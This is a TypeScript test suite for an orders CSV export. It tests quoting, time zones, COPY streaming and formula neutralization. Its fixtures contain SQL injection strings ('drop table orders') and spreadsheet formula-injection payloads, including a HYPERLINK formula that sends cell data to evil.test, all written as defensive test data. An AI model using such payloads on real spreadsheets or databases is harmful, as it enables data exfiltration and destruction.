import { eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Database } from "@/db/client";
import * as s from "@/db/schema";
import { seedDemo } from "@/db/seed";
import { newId } from "@/lib/ids";
import { quoteLiteral } from "@/db/sql-literal";
import { csvText, parseCsv } from "@/lib/testing/csv";
import { TEST_DATABASES, TEST_ENCRYPTION_KEY } from "@/lib/testing/databases";
import { eventually, merchantId } from "@/lib/testing/payments";
import { CSV_BOM, CSV_HEADER, ordersCsvStream, type CsvOptions, type CsvVariant } from "./csv";
import { exportOrdersCsv } from "./csv-copy";
import { encodeCursor, parseOrderFilters } from "./filters";

const text = csvText;

/**
 * Characters a careless COPY text would choke on; no digit and no "@", so it is a name search.
 * No line break: a search holding a control character is dropped (filters.ts); the COPY literals
 * test below keeps one.
 */
const HOSTILE = `d'Ivoire \\ "la" %_; '); drop table orders; --`;
/** The same with digits: searched as references (order prefix, payment and provider reference). */
const HOSTILE_REF = `7'\\"; 50%_ '); drop table orders; --`;

/** A shopper's name that Excel would run as a formula, were it not neutralized. */
const FORMULA = `=HYPERLINK("http://evil.test/?d="&A1,"Cliquez ici")`;

type PaymentSpec = Partial<typeof s.payments.$inferInsert> & Pick<typeof s.payments.$inferInsert, "provider" | "status">;

/**
 * Orders the seeded history lacks, for both merchants: names that need quoting (comma, quote,
 * CR/LF, backslash) or look empty, null and empty e-mail/phone, no payment, several payments,
 * fee above the amount (negative net), microsecond and tied timestamps.
 */
async function addEdgeOrders(database: Database, slug: "demo" | "autre") {
  const mid = await merchantId(database, slug);
  const [merchant] = await database.db.select().from(s.merchants).where(eq(s.merchants.id, mid));
  const accounts = await database.db.select().from(s.providerAccounts).where(eq(s.providerAccounts.merchantId, mid));
  const currency = merchant!.currency;
  let n = 0;
  const add = async (order: Partial<typeof s.orders.$inferInsert>, payments: PaymentSpec[] = [], createdAtText?: string) => {
    const id = newId("ord");
    n++;
    await database.db.insert(s.orders).values({
      id,
      merchantId: mid,
      reference: `E${slug.toUpperCase()}${String(n).padStart(3, "0")}`,
      amountMinor: 12_345,
      currency,
      customerName: "Edge Case",
      customerEmail: `edge${n}@example.test`,
      customerPhone: slug === "demo" ? `+22507000000${String(n).padStart(2, "0")}` : `+2547220000${String(n).padStart(2, "0")}`,
      customerCountry: merchant!.country,
      ...order,
    });
    for (const [i, p] of payments.entries()) {
      const account = accounts.find((a) => a.provider === p.provider) ?? accounts[0]!;
      await database.db.insert(s.payments).values({
        id: newId("pay"),
        orderId: id,
        merchantId: mid,
        providerAccountId: account.id,
        method: "card",
        reference: `CSE${slug.toUpperCase()}${n}X${i}`,
        amountMinor: order.amountMinor ?? 12_345,
        currency,
        createdAt: new Date(Date.now() - (10 - i) * 60_000),
        ...p,
      });
    }
    if (createdAtText) await database.db.execute(sql`update orders set created_at = ${createdAtText}::timestamptz where id = ${id}`);
    return id;
  };
  const provider = slug === "demo" ? "cinetpay" : "ipay";
  await add({ customerName: 'Awa "la patronne", Abidjan' }, [{ provider, status: "paid", feeEstimatedMinor: 350, settlementDate: "2026-12-01" }]);
  await add({ customerName: "Line one\nline two\r\nand\rthree", customerEmail: null, customerPhone: null });
  await add({ customerName: "", customerEmail: "", customerPhone: "" }, [{ provider, status: "failed", method: "", providerReference: "" }]);
  await add({ customerName: "Éloïse Koné-Brou ✓ ngũgĩ", amountMinor: 5 }, [
    { provider, status: "failed", createdAt: new Date(Date.now() - 3_600_000) },
    { provider, status: "paid", feeReportedMinor: 7, providerReference: 'MP,1"2', settlementDate: "2026-12-02", settlementReported: true, createdAt: new Date(Date.now() - 7_200_000) },
  ]);
  await add({ customerName: "Deux échecs" }, [
    { provider, status: "failed", createdAt: new Date(Date.now() - 7_200_000) },
    { provider, status: "expired", createdAt: new Date(Date.now() - 3_600_000) },
  ]);
  await add({ customerName: `Awa ${HOSTILE} Koné` }, [{ provider, status: "refunded", feeEstimatedMinor: 20_000, netMinor: null }]);
  await add({ customerName: `Awa d'Ivoire \\ "la" 9x; \n'); drop table orders; --` }, [{ provider, status: "partially_refunded", netMinor: -3 }]);
  await add({ customerName: "C:\\caisse\\tab\there, ' quote" }, [{ provider, status: "pending", method: "mpesa" }], "2026-01-15 23:59:59.999999+00");
  await add({ customerName: "Tie A", amountMinor: 100 }, [], "2026-01-15 10:00:00.000500+00");
  await add({ customerName: "Tie B", amountMinor: 100 }, [], "2026-01-15 10:00:00.000500+00");
  await add({ customerName: " leading and trailing " }, [{ provider, status: "cancelled", providerReference: HOSTILE_REF }], "2026-01-16 00:00:00+00");
  // Formulas a spreadsheet would run (CSV injection), in every free-text column.
  await add({ reference: `=1+2${slug}`, customerName: FORMULA, customerEmail: "@SUM(1+1)@evil.test", customerPhone: "-2+3" }, [
    { provider, status: "paid", method: "=cmd", providerReference: "+HYPERLINK(1)", netMinor: -3 },
  ]);
  await add({ customerName: "\t=1+1", customerEmail: "\r=1+1@evil.test", customerPhone: "+2250700000099" }, [{ provider, status: "failed", method: "-", providerReference: "-42" }]);
  // The same behind white space, which a spreadsheet that trims cells (LibreOffice's "trim
  // spaces", Sheets' paste) drops before it reads the formula.
  await add({ customerName: "  =1+1", customerEmail: "\n=1+1@evil.test", customerPhone: "\u00a0-2+3" }, [{ provider, status: "failed", method: " @cmd", providerReference: "\t +HYPERLINK(1)" }]);
}


const ABIDJAN: CsvOptions = { variant: "csv", timeZone: "Africa/Abidjan" };
const postgresOnly = TEST_DATABASES.filter((d) => d.name === "postgres");

describe.each(TEST_DATABASES)("CSV export on $name", ({ name, open }) => {
  let database: Database;
  const ids: Record<string, string> = {};
  const currencyOf = { demo: "XOF", autre: "KES" } as const;
  // The seeded stores' zones: Abidjan (UTC+0) and Nairobi (UTC+3, where a late order is on the next day).
  const zoneOf = { demo: "Africa/Abidjan", autre: "Africa/Nairobi" } as const;
  const plain = (slug: "demo" | "autre"): CsvOptions => ({ variant: "csv", timeZone: zoneOf[slug] });
  const excelFr = (slug: "demo" | "autre"): CsvOptions => ({ variant: "excel-fr", timeZone: zoneOf[slug] });

  beforeAll(async () => {
    database = await open();
    await seedDemo(database.db, { encryptionKey: TEST_ENCRYPTION_KEY });
    for (const slug of ["demo", "autre"] as const) {
      await addEdgeOrders(database, slug);
      ids[slug] = await merchantId(database, slug);
    }
  });
  afterAll(async () => {
    await database?.close();
  });

  it(name === "postgres" ? "runs COPY on the server" : "keeps the keyset pages on the embedded database", () => {
    expect(Boolean(database.copyToStdout)).toBe(name === "postgres");
  });

  const cases: [string, Record<string, string>][] = [
    ["no filter", {}],
    ["status paid", { status: "paid" }],
    ["status failed", { status: "failed" }],
    ["status pending", { status: "pending" }],
    ["provider", { provider: "cinetpay" }],
    ["provider ipay", { provider: "ipay" }],
    ["method", { method: "card" }],
    ["dates", { from: "2026-01-15", to: "2026-01-15" }],
    ["from only", { from: "2026-01-16" }],
    ["amounts", { min: "50", max: "30000" }],
    ["by amount, ascending", { sort: "amount", dir: "asc" }],
    ["by amount, descending", { sort: "amount" }],
    ["oldest first", { dir: "asc" }],
    ["a cursor is ignored: the export is the whole set", { cursor: encodeCursor({ v: "2026-01-15 10:00:00+00", id: "x" }) }],
    ["several filters", { status: "paid", provider: "cinetpay", method: "mtn", min: "5000", max: "60000" }],
    ["search: name", { q: "awa" }],
    ["search: hostile name", { q: HOSTILE }],
    ["search: one letter", { q: "e" }],
    ["search: reference start", { q: "H001" }],
    ["search: e-mail", { q: "EDGE1@" }],
    ["search: phone ending", { q: "00 00 01" }],
    ["search: provider reference", { q: 'MP,1"2' }],
    ["search: hostile provider reference", { q: HOSTILE_REF }],
    ["search: nothing", { q: "%" }],
    ["search: a formula", { q: "HYPERLINK" }],
  ];

  for (const slug of ["demo", "autre"] as const) {
    for (const variant of ["csv", "excel-fr"] as CsvVariant[]) {
      it.each(cases)(`${slug}, ${variant}: export is byte-identical to the keyset pages (%s)`, async (_label, raw) => {
        const filters = parseOrderFilters(raw, { currency: currencyOf[slug], timeZone: zoneOf[slug] });
        const options = { variant, timeZone: zoneOf[slug] };
        const keyset = await text(ordersCsvStream(database.db, ids[slug]!, filters, options, 37));
        const exported = await text(exportOrdersCsv(database, ids[slug]!, filters, options));
        expect(exported.startsWith(CSV_BOM + CSV_HEADER.join(variant === "csv" ? "," : ";") + "\r\n")).toBe(true);
        expect(exported).toBe(keyset);
      });
    }
  }

  // Not store zones today, but the SQL and JS offsets must agree on a negative, a half-hour and a daylight-saving one.
  it.each(["America/St_Johns", "Europe/Paris", "UTC"])("writes the same times in %s on both paths", async (timeZone) => {
    const filters = parseOrderFilters({}, { currency: "KES", timeZone: "Africa/Nairobi" });
    const options = { variant: "csv" as const, timeZone };
    const exported = await text(exportOrdersCsv(database, ids.autre!, filters, options));
    expect(exported).toBe(await text(ordersCsvStream(database.db, ids.autre!, filters, options, 37)));
    expect(exported).toMatch(timeZone === "UTC" ? /,2026-01-15T23:59:59\+00:00,/ : timeZone === "Europe/Paris" ? /,2026-01-16T00:59:59\+01:00,/ : /,2026-01-15T20:29:59-03:30,/);
  });

  it("covers the cases that need care: quoting, empty strings, decimals, sources", async () => {
    const autre = await text(exportOrdersCsv(database, ids.autre!, parseOrderFilters({}, { currency: "KES", timeZone: "Africa/Nairobi" }), plain("autre")));
    expect(autre).toContain('"Awa ""la patronne"", Abidjan"');
    expect(autre).toContain('"Line one\nline two\r\nand\rthree",,,KES,123.45,,,,');
    expect(autre).toMatch(/\r\nEAUTRE003,[^,]+,,,,KES,123\.45,,,,ipay,,failed,,,\r\n/);
    expect(autre).toContain(",KES,0.05,0.07,reported,-0.02,ipay,card,paid,\"MP,1\"\"2\",2026-12-02,reported\r\n");
    expect(autre).toContain(",123.45,200.00,estimated,-76.55,ipay,card,refunded,");
    expect(autre).toContain(",-0.03,ipay,card,partially_refunded,");
    // 23:59:59.999999 UTC is the next day in Nairobi; the fraction is dropped, not rounded.
    expect(autre).toContain("2026-01-16T02:59:59+03:00,\"C:\\caisse\\tab\there, ' quote\"");
    expect(autre).toContain(",expired,");
    const demo = await text(exportOrdersCsv(database, ids.demo!, parseOrderFilters({}, { currency: "XOF", timeZone: "Africa/Abidjan" }), plain("demo")));
    expect(demo).toContain(",XOF,12345,350,estimated,11995,cinetpay,card,paid,,2026-12-01,estimated\r\n");
    expect(demo).toContain("EDEMO009,2026-01-15T10:00:00+00:00,Tie A,");
  });

  it("Excel (FR): byte-order mark, ';' between fields, decimal commas, times in the store's zone", async () => {
    const autre = await text(exportOrdersCsv(database, ids.autre!, parseOrderFilters({}, { currency: "KES", timeZone: "Africa/Nairobi" }), excelFr("autre")));
    expect(autre.startsWith("\ufeffreference;created_at;customer_name;")).toBe(true);
    expect(autre).toContain(";KES;0,05;0,07;reported;-0,02;ipay;card;paid;\"MP,1\"\"2\";2026-12-02;reported\r\n");
    expect(autre).toContain(";123,45;200,00;estimated;-76,55;ipay;card;refunded;");
    // A comma is no separator here: left unquoted; a ';' is, and is quoted.
    expect(autre).toContain("2026-01-16T02:59:59+03:00;C:\\caisse\\tab\there, ' quote;");
    expect(autre).toContain(`;"Awa ${HOSTILE.replaceAll('"', '""')} Koné";`);
    const demo = await text(exportOrdersCsv(database, ids.demo!, parseOrderFilters({}, { currency: "XOF", timeZone: "Africa/Abidjan" }), excelFr("demo")));
    expect(demo).toContain(";XOF;12345;350;estimated;11995;cinetpay;card;paid;;2026-12-01;estimated\r\n");
    expect(demo).toContain("EDEMO009;2026-01-15T10:00:00+00:00;Tie A;");
  });

  it("neutralizes formulas in free-text cells with a leading quote, leaving amounts and E.164 phones as they are", async () => {
    for (const slug of ["demo", "autre"] as const) {
      const fr = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({}, { currency: currencyOf[slug], timeZone: zoneOf[slug] }), excelFr(slug)));
      expect(fr).toContain(`'=1+2${slug};`);
      expect(fr).toContain(`;'=cmd;paid;'+HYPERLINK(1);`);
      for (const record of parseCsv(fr.slice(1), ";").slice(1)) {
        for (const [i, field] of record.entries()) {
          if (["amount", "fee", "net"].includes(CSV_HEADER[i]!)) continue;
          expect(field, `${CSV_HEADER[i]} ${JSON.stringify(field)}`).not.toMatch(/^[=+\-@\t\r](?![0-9]+(\.[0-9]+)?$)|^\s+[=+\-@]/);
        }
      }
      const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({}, { currency: currencyOf[slug], timeZone: zoneOf[slug] }), plain(slug)));
      const currency = currencyOf[slug];
      expect(csv).toContain(`'=1+2${slug},`);
      expect(csv).toContain(`,"'=HYPERLINK(""http://evil.test/?d=""&A1,""Cliquez ici"")",'@SUM(1+1)@evil.test,'-2+3,${currency},`);
      expect(csv).toContain(`,'=cmd,paid,'+HYPERLINK(1),`);
      expect(csv).toContain(`,'\t=1+1,"'\r=1+1@evil.test",+2250700000099,${currency},`);
      expect(csv).toContain(`,'-,failed,-42,`);
      expect(csv).toContain(`,'  =1+1,"'\n=1+1@evil.test",'\u00a0-2+3,${currency},`);
      expect(csv).toContain(`,' @cmd,failed,'\t +HYPERLINK(1),`);
      // A negative net is a number the spreadsheet must keep: never quoted.
      expect(csv).toMatch(new RegExp(`,${currency},[0-9.]+,[0-9.]*,[a-z]*,-[0-9.]+,`));
      // No free-text cell starts a formula: every field of every record, parsed back.
      for (const record of parseCsv(csv).slice(1)) {
        for (const [i, field] of record.entries()) {
          if (["amount", "fee", "net"].includes(CSV_HEADER[i]!)) continue;
          expect(field, `${CSV_HEADER[i]} ${JSON.stringify(field)}`).not.toMatch(/^[=+\-@\t\r](?![0-9]+(\.[0-9]+)?$)|^\s+[=+\-@]/);
        }
      }
    }
  });

  it("a hostile search string finds its order, as a name, and breaks nothing", async () => {
    for (const slug of ["demo", "autre"] as const) {
      const csv = await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({ q: HOSTILE }, { currency: currencyOf[slug], timeZone: zoneOf[slug] }), plain(slug)));
      const lines = csv.split("\r\n").filter(Boolean);
      expect(lines).toHaveLength(2);
      expect(lines[1]).toContain(`E${slug.toUpperCase()}006,`);
      const byRef = (await text(exportOrdersCsv(database, ids[slug]!, parseOrderFilters({ q: HOSTILE_REF }, { currency: currencyOf[slug], timeZone: zoneOf[slug] }), plain(slug)))).split("\r\n").filter(Boolean);
      expect(byRef).toHaveLength(2);
      expect(byRef[1]).toContain(`E${slug.toUpperCase()}011,`);
    }
    expect(await database.db.$count(s.orders, eq(s.orders.merchantId, ids.demo!))).toBeGreaterThan(200);
  });
});

describe.each(postgresOnly)("COPY literals on $name", ({ open }) => {
  let database: Database;
  beforeAll(async () => {
    database = await open();
  });
  afterAll(async () => {
    await database?.close();
  });

  it.each(["on", "off"])("read back exactly with standard_conforming_strings = %s", async (setting) => {
    const values = [HOSTILE, HOSTILE_REF, `${HOSTILE}\n${HOSTILE_REF}`, "\\", "\\'", "''", "a\\nb", "é ✓ 'x' \"y\"", "$1", "E'x'"];
    const read = await database.db.transaction(async (tx) => {
      await tx.execute(sql.raw(`set local standard_conforming_strings = ${setting}`));
      const rows = await tx.execute(sql.raw(`select ${values.map((v, i) => `${quoteLiteral(v)} as v${i}`).join(", ")}`));
      return Object.values((rows as unknown as Record<string, string>[])[0]!);
    });
    expect(read).toEqual(values);
  });
});

describe.each(postgresOnly)("COPY export streaming on $name", ({ open }) => {
  let database: Database;
  let demo: string;
  const activeCopies = async () =>
    (await database.db.execute<{ pid: number; wait_event: string | null }>(
      sql`select pid, wait_event from pg_stat_activity where datname = current_database() and state = 'active' and query ilike 'copy (%'`,
    )) as unknown as { pid: number; wait_event: string | null }[];

  beforeAll(async () => {
    // Two connections: the COPY's and the one its cancel goes through. A leaked one shows at once.
    database = await open({ poolMax: 2 });
    await seedDemo(database.db, { encryptionKey: TEST_ENCRYPTION_KEY, orders: 0 });
    demo = await merchantId(database, "demo");
    // ~40 MB of CSV: more than the socket buffers hold, so the server is still sending when cancelled.
    await database.db.execute(sql`
      insert into orders (id, merchant_id, reference, amount_minor, currency, customer_name, customer_country, created_at)
      select 'ord_big' || g, ${demo}, 'B' || g, 1000 + g, 'XOF', repeat('Aya, "K" ', 1000), 'CI', now() - g * interval '1 second'
      from generate_series(1, 4000) g`);
  });
  afterAll(async () => {
    await database?.close();
  });

  it("holds the server back while the client does not read, and a cancel stops the query and frees the connection", async () => {
    const reader = exportOrdersCsv(database, demo, parseOrderFilters({}, { currency: "XOF", timeZone: "Africa/Abidjan" }), ABIDJAN).getReader();
    let received = 0;
    while (received < 100_000) received += (await reader.read()).value!.length;
    // Backpressure reaches the server: its backend waits on the socket instead of filling our memory.
    const [copy] = await eventually(activeCopies, (rows) => rows[0]?.wait_event === "ClientWrite");
    await reader.cancel();
    await eventually(activeCopies, (rows) => rows.length === 0);
    // Its backend is idle, or busy answering this very query: the pool reused the freed connection.
    const [backend] = (await database.db.execute(sql`select state, pid = pg_backend_pid() as self from pg_stat_activity where pid = ${copy!.pid}`)) as unknown as { state: string; self: boolean }[];
    expect(backend!.self || backend!.state === "idle").toBe(true);
    // Both pool connections are usable again: two exports at once (each holds one) complete.
    const one = parseOrderFilters({ q: "B17" }, { currency: "XOF", timeZone: "Africa/Abidjan" });
    const [a, b] = await Promise.all([text(exportOrdersCsv(database, demo, one, ABIDJAN)), text(exportOrdersCsv(database, demo, one, ABIDJAN))]);
    expect(a).toBe(b);
    expect(a).toBe(await text(ordersCsvStream(database.db, demo, one, ABIDJAN)));
  });

  it("a cancel before the first read or after the last row leaves nothing behind", async () => {
    await exportOrdersCsv(database, demo, parseOrderFilters({}, { currency: "XOF", timeZone: "Africa/Abidjan" }), ABIDJAN).cancel();
    const reader = exportOrdersCsv(database, demo, parseOrderFilters({ q: "B1234" }, { currency: "XOF", timeZone: "Africa/Abidjan" }), ABIDJAN).getReader();
    let all = "";
    for (let r = await reader.read(); !r.done; r = await reader.read()) all += new TextDecoder().decode(r.value);
    await reader.cancel();
    expect(all.split("\r\n").filter(Boolean)).toHaveLength(2);
    await eventually(activeCopies, (rows) => rows.length === 0);
    const whole = await text(exportOrdersCsv(database, demo, parseOrderFilters({}, { currency: "XOF", timeZone: "Africa/Abidjan" }), ABIDJAN));
    expect(whole.split("\r\n").filter(Boolean)).toHaveLength(4001);
  });
});
